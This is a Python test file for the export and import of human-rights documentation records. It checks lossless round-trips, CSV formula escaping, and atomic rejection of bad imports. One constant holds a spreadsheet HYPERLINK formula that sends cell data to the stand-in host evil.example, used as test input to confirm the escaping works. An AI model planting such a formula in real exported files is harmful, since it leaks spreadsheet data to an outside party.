"""Export and import of documentation: a project round-trips into an empty store without loss;
CSV cells that a spreadsheet would run as formulas are escaped; a bad import stores nothing."""

from __future__ import annotations

import json

import pytest
from sqlalchemy.orm import Session

from dignity.documentation import services as docs
from dignity.documentation import transfer
from dignity.documentation.fields import RECORD_TYPES
from dignity.exc import InvalidInput
from dignity.security.permissions import Role
from dignity.store import create_engine, make_sessionmaker, migrate
from factories.documentation import story
from factories.monitoring import reviewer, team

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _everything(session: Session, principal, project_id: str) -> dict:  # type: ignore[no-untyped-def]
    document = transfer.export_project(session, principal, project_id)
    document.pop("project")
    return document


def test_a_project_round_trips_into_an_empty_store(session: Session, fresh_store_url: str) -> None:
    project = team(session, "Darfur 2023")
    lead = reviewer(session, "lead", project, Role.INVESTIGATOR)
    ids = story(session, lead, project)
    docs.update_record(session, lead, "acts", ids["act"], revision=1, values={"place": FORMULA})
    docs.create_record(
        session,
        lead,
        "information",
        project.id,
        {"source_id": ids["victim"], "event_id": ids["event"], "reliability": "reliability.high"},
    )
    exported = _everything(session, lead, project.id)
    text = transfer.dumps(transfer.export_project(session, lead, project.id))

    engine = create_engine(fresh_store_url)
    migrate.upgrade(engine)
    with make_sessionmaker(engine)() as other:
        target = team(other, "Darfur 2023 (copy)")
        admin = reviewer(other, "admin", None, Role.ADMIN)
        counts = transfer.import_project(other, admin, target.id, json.loads(text))
        assert counts["acts"] == 2
        assert counts["persons"] == 3
        other.commit()
        got = _everything(other, admin, target.id)
        for name in exported["records"]:
            for a, b in zip(got["records"][name], exported["records"][name], strict=True):
                assert a == b, (name, {k: (a[k], b.get(k)) for k in a if a[k] != b.get(k)})
        assert got == exported
    engine.dispose()


def test_csv_escapes_formulas_and_reads_back_the_same(session: Session) -> None:
    project = team(session, "Darfur 2023")
    lead = reviewer(session, "lead", project, Role.INVESTIGATOR)
    ids = story(session, lead, project)
    docs.update_record(session, lead, "acts", ids["act"], revision=1, values={"place": FORMULA})
    text = transfer.export_csv(session, lead, project.id, "acts")
    assert "'" + FORMULA.replace('"', '""') in text
    assert "\n=" not in text
    assert ",=" not in text
    records = transfer.csv_records(RECORD_TYPES["acts"], text, "acts.csv")
    exported = transfer.export_project(session, lead, project.id)["records"]["acts"]
    by_id = {r["id"]: r for r in exported}
    for record in records:
        expected = by_id[record["id"]]
        for name, value in record.items():
            assert value == (expected[name] if expected[name] != [] else []), name


def test_a_bad_import_names_record_and_field_and_stores_nothing(session: Session) -> None:
    project = team(session, "Darfur 2023")
    lead = reviewer(session, "lead", project, Role.INVESTIGATOR)
    ids = story(session, lead, project)
    document = transfer.export_project(session, lead, project.id)
    target = team(session, "Empty")
    admin = reviewer(session, "admin", None, Role.ADMIN)
    document["records"]["acts"][0]["act_type"] = "act.no-such-act"
    document["records"]["acts"][1]["victim_id"] = "00000000-0000-0000-0000-000000000000"
    with pytest.raises(InvalidInput) as caught:
        transfer.import_project(session, admin, target.id, document)
    fields = sorted(error.field for error in caught.value.errors)
    assert fields == ["records.acts[1].act_type", "records.acts[2].victim_id"]
    assert docs.list_records(session, admin, "events", project_id=target.id)[1] == 0
    assert ids["event"]
